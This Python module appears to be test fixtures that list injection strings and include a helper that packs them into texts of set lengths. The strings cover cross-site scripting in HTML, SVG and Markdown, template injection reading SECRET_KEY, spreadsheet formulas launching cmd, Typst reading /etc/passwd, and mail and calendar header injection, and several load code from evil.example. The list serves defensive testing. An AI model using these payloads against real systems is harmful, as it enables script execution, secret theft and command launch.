"""Texts that would do something if a page, file or mail interpreted them. `alert` and `evil.example` reveal them."""

VECTORS = [
    # Markup, plain and broken
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<script\x0c>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "</title><script>alert(1)</script>", "<!--><script>alert(1)</script>-->",
    "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "</noscript><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script>", "<?xml-stylesheet href='javascript:alert(1)'?>", "<![CDATA[<script>alert(1)</script>]]>",
    "<img src=x onerror=alert(1)>", "<img/src/onerror=alert(1)>", "<img src=//evil.example/p.png>", "<img srcset='//evil.example/q 1x'>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>", "<iframe src='javascript:alert(1)'></iframe>", "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>", "<embed src='//evil.example/e.swf'>",
    "<details open ontoggle=alert(1)>x</details>", "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
    "<form action='//evil.example/'><button>x</button></form>", "<button formaction='javascript:alert(1)'>x</button>",
    "<base href='//evil.example/'>", "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<link rel=stylesheet href=//evil.example/c.css>",
    "<style>@import '//evil.example/c.css';</style>", "<p style='background:url(//evil.example/b)'>x</p>", "<div style=width:expression(alert(1))>",
    "<a href='javascript:alert(1)'>x</a>", "<a href='java&#x09;script:alert(1)'>x</a>", "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<template><script>alert(1)</script></template>", "<portal src='//evil.example'>", "<x onclick=alert(1)>x</x>", "<img src=`x`onerror=alert(1)>",
    # Out of an attribute, a script, JSON
    "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "\"><img src=x onerror=alert(1)>", "` onmouseover=alert(1) x=`",
    "\"}</script><script>alert(1)</script>", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\u2028alert(1)//", "</script><!--<script>",
    "{{constructor.constructor('alert(1)')()}}", "{% load x %}{{ settings.SECRET_KEY }}", "${alert(1)}", "#{alert(1)}", "%3Cscript%3Ealert(1)%3C/script%3E",
    # Markdown
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))", "[x](javascript&colon;alert(1))", "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](vbscript:msgbox(1))", "![x](//evil.example/m.png)", "![x](x\"onerror=\"alert(1))",
    "[x](https://city.example/\"onmouseover=\"alert(1))", "[x]: javascript:alert(1) \"y\"", "<javascript:alert(1)>", "<https://evil.example/\"onclick=alert(1)>",
    "https://city.example/?<script>alert(1)</script>", "https://city.example/'onmouseover='alert(1)", "![x][r]\n\n[r]: https://evil.example/r.png", "```<script>\nalert(1)\n```",
    # For spreadsheets, calendars, Typst and mail
    "=HYPERLINK(\"//evil.example\";\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
    "x\r\nATTENDEE:mailto:evil@evil.example", "END:VEVENT\r\nBEGIN:VEVENT", "#eval(\"1\")", "#read(\"/etc/passwd\")", "#image(\"//evil.example/t.png\")",
    "x\r\nBcc: evil@evil.example", "\u202ealert(1)\u202c", "<x@evil.example>\r\nSubject: evil",
]  # fmt: skip


def packed(length: int) -> list[str]:
    """All vectors, packed into texts of at most `length` characters."""
    texts, text = [], ""
    for vector in (each for each in VECTORS if len(each) <= length):
        if text and len(text) + 1 + len(vector) > length:
            texts.append(text)
            text = ""
        text = f"{text} {vector}" if text else vector
    return [*texts, text]


ALL = "\n\n".join(VECTORS)
